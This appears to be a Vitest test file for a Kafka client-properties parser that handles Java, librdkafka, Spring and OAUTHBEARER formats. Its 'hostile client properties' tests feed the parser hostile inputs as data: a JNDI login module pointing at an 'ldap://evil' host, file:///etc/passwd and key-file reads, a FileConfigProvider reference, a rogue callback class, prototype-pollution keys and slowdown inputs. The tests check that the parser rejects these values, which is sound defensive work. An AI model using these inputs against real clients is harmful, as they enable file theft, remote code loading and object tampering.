import { describe, expect, test } from 'vitest';
import { readClientProperties } from './client-properties';

const settings = (text: string) => readClientProperties(text).settings;
const ignored = (text: string) =>
  Object.fromEntries(readClientProperties(text).ignored.map(({ key, why }) => [key, why]));
const plainModule = 'org.apache.kafka.common.security.plain.PlainLoginModule';
const body = 'MIIBozCCAUigAwIBAgIUf9gbgI9ZtKogMIIBozCCAUigAwIBAgIUf9gbgI9ZtKogMIIBozCCAUig';
const wrapped = `-----BEGIN CERTIFICATE-----\n${body.slice(0, 64)}\n${body.slice(64)}\n-----END CERTIFICATE-----\n`;

describe('client properties', () => {
  test('of Java fill the form', () => {
    const text = `# shop
bootstrap.servers=k1:9094,SASL_SSL://k2:9094
security.protocol = SASL_SSL
sasl.mechanism: SCRAM-SHA-256
sasl.jaas.config=org.apache.kafka.common.security.scram.ScramLoginModule required \\
    username="sluice" \\
    password="p\\"q;=\\\\ r";
ssl.truststore.certificates=-----BEGIN CERTIFICATE-----\\n${body}\\n-----END CERTIFICATE-----
`;
    expect(settings(text)).toEqual({
      bootstrapServers: 'k1:9094,k2:9094',
      tls: true,
      sasl: true,
      mechanism: 'SCRAM-SHA-256',
      username: 'sluice',
      password: 'p"q;= r',
      ca: wrapped,
    });
  });

  test('of librdkafka do, in a file, a dictionary or for kcat', () => {
    const wanted = {
      bootstrapServers: 'k:9092',
      tls: true,
      sasl: true,
      mechanism: 'PLAIN',
      username: 'u',
      password: 'p,',
    };
    const file =
      'metadata.broker.list=k:9092\nsecurity.protocol=sasl_ssl\nsasl.mechanisms=PLAIN\nsasl.username=u\nsasl.password=p,';
    const python = `conf = {
  'bootstrap.servers': 'k:9092',
  'security.protocol': 'SASL_SSL',
  "sasl.mechanisms": "PLAIN",
  'sasl.username': 'u', 
  'sasl.password': 'p,',
}`;
    const kcat = file.replaceAll(/^/gm, '-X ');
    for (const text of [file, python, kcat]) expect(settings(text)).toEqual(wanted);
  });

  test('of Spring do, flat or nested', () => {
    const wanted = {
      bootstrapServers: 'k:9092',
      tls: true,
      sasl: true,
      mechanism: 'PLAIN',
      username: 'u',
      password: 'p#q',
    };
    const jaas = `${plainModule} required username="u" password="p#q";`;
    const flat = `spring.kafka.bootstrap-servers=k:9092
spring.kafka.properties.security.protocol=SASL_SSL
spring.kafka.properties.sasl.mechanism=PLAIN
spring.kafka.properties.sasl.jaas.config=${jaas}`;
    const nested = `spring:
  kafka:
    bootstrap-servers: k:9092 # ours
    security:
      protocol: SASL_SSL
    properties:
      sasl:
        mechanism: PLAIN
        jaas.config: >-
          ${plainModule} required
          username="u" password="p#q";
    consumer:
      group-id: shop`;
    expect(settings(flat)).toEqual(wanted);
    expect(settings(nested)).toEqual(wanted);
    expect(ignored(nested)).toEqual({ 'group-id': 'says nothing about reaching the cluster' });
  });

  test('of OAUTHBEARER do, as JAAS options or as keys', () => {
    const wanted = {
      ...{ mechanism: 'OAUTHBEARER', tokenUrl: 'https://idp/token', clientId: 'c', clientSecret: 's', scope: 'kafka' },
      extensions: 'logicalCluster=lkc-1, identityPoolId=pool-2',
    };
    const module = 'org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule';
    const jaas = `sasl.oauthbearer.token.endpoint.url=https://idp/token
sasl.jaas.config=${module} required clientId='c' clientId=c clientSecret="s" scope="kafka" extension_logicalCluster="lkc-1" extension_identityPoolId="pool-2";`;
    expect(settings(jaas)).toEqual(wanted);
    const keys = `sasl.mechanisms=OAUTHBEARER
sasl.oauthbearer.token.endpoint.url=https://idp/token
sasl.oauthbearer.client.id=c
sasl.oauthbearer.client.secret=s
sasl.oauthbearer.scope=kafka
sasl.oauthbearer.extensions=logicalCluster=lkc-1, identityPoolId=pool-2`;
    expect(settings(keys)).toEqual(wanted);
  });

  test('bring PEM text however its lines are kept', () => {
    const asOne = `ssl.truststore.certificates=${wrapped.replaceAll('\n', '\\n')}`;
    const continued = `ssl.truststore.certificates=${wrapped.trim().replaceAll('\n', ' \\\n  ')}`;
    const raw = `ssl.truststore.certificates=${wrapped}`;
    const yaml = `ssl.truststore.certificates: |\n${wrapped.replaceAll(/^/gm, '  ')}`;
    const dictionary = `"ssl.ca.pem": "${wrapped.replaceAll('\n', '\\n')}",`;
    for (const text of [asOne, continued, raw, yaml, dictionary]) expect(settings(text)).toEqual({ ca: wrapped });
    expect(settings(`ssl.truststore.certificates=${wrapped}${wrapped}ssl.key.password=x`)).toEqual({
      ca: wrapped + wrapped,
      passphrase: 'x',
    });
    const old =
      '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,AB\n\nabcd\n-----END RSA PRIVATE KEY-----\n';
    expect(settings(`ssl.keystore.key=${old}`).key).toBe(old);
  });

  test('say what was taken and why the rest was left', () => {
    const { taken, ignored: left } = readClientProperties(`security.protocol=SSL
ssl.truststore.location=/etc/kafka/truststore.jks
ssl.truststore.password=changeit
ssl.endpoint.identification.algorithm=
sasl.mechanism=GSSAPI
sasl.password=\${env:KAFKA_PASSWORD}
security.protocol=SASL_SSL
acks=all`);
    expect(taken).toEqual([{ key: 'security.protocol', into: 'Encryption' }]);
    expect(left.map(({ key }) => key)).toEqual([
      'security.protocol',
      'ssl.truststore.location',
      'ssl.truststore.password',
      'ssl.endpoint.identification.algorithm',
      'sasl.mechanism',
      'sasl.password',
      'acks',
    ]);
    expect(left[0]?.why).toBe('is given again further down');
    expect(left[1]?.why).toContain('paste its PEM text');
    expect(left[4]?.why).toBe('asks for GSSAPI, which Sluice does not speak');
    expect(left[5]?.why).toContain('placeholder');
  });
});

describe('hostile client properties', () => {
  test('name login modules that are none of the three', () => {
    const modules = [
      'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x" username="a" password="b";',
      'com.sun.security.auth.module.LdapLoginModule required username="a";',
      'org.apache.kafka.common.security.plain.PlainLoginModuleX required username="a";',
      `${plainModule} required username="a" password="b"; com.sun.security.auth.module.JndiLoginModule required;`,
      `${plainModule} username="a";`,
      `${plainModule} required username="a" password="b`,
      `${plainModule} required username = ;`,
      '__proto__ required username="a";',
      '',
    ];
    for (const text of modules) {
      const { settings: found, taken } = readClientProperties(`sasl.jaas.config=${text}`);
      expect({ found, taken }).toEqual({ found: {}, taken: [] });
    }
  });

  test('name files, code and prototypes', () => {
    const text = `sasl.oauthbearer.token.endpoint.url=file:///etc/passwd
ssl.ca.pem=/etc/ssl/ca.pem
ssl.keystore.key=file:///root/key.pem
config.providers=file
config.providers.file.class=org.apache.kafka.common.config.provider.FileConfigProvider
bootstrap.servers=\${file:/etc/passwd:x}
sasl.login.callback.handler.class=evil.Handler
__proto__=polluted
constructor=polluted
__proto__.polluted=yes`;
    const { settings: found, taken, ignored: left } = readClientProperties(text);
    expect({ found, taken }).toEqual({ found: {}, taken: [] });
    expect(left).toHaveLength(10);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(left.find(({ key }) => key === 'config.providers')?.why).toContain('code');
  });

  test('come in thousands', () => {
    const lines = Array.from(
      { length: 10_000 },
      (_, i) => `x${((i * 2654435761) >>> 0).toString(36)}.${i}=file:///${i}`,
    );
    const { settings: found, taken, ignored: left } = readClientProperties(lines.join('\n'));
    expect({ found, taken, left: left.length }).toEqual({ found: {}, taken: [], left: 10_000 });
  });

  test('are made to take long, and do not', () => {
    const long = 'x'.repeat(100_000);
    const texts = [
      '\\'.repeat(100_000),
      `${'-----BEGIN A-----'.repeat(8_000)}`,
      `a=${'\\\n'.repeat(50_000)}`,
      `${' '.repeat(100_000)}=`,
    ];
    texts.push(`sasl.jaas.config=${plainModule} required a="${'\\"'.repeat(50_000)}`, `bootstrap.servers=${long}`);
    texts.push(`ssl.ca.pem=${'-----BEGIN A-----'.repeat(8_000)}`, `sasl.password=${'${'.repeat(50_000)}`);
    const begin = performance.now();
    for (const text of texts) readClientProperties(text);
    // Seconds, were anything in it quadratic; this is milliseconds on any machine.
    expect(performance.now() - begin).toBeLessThan(5_000);
  });
});
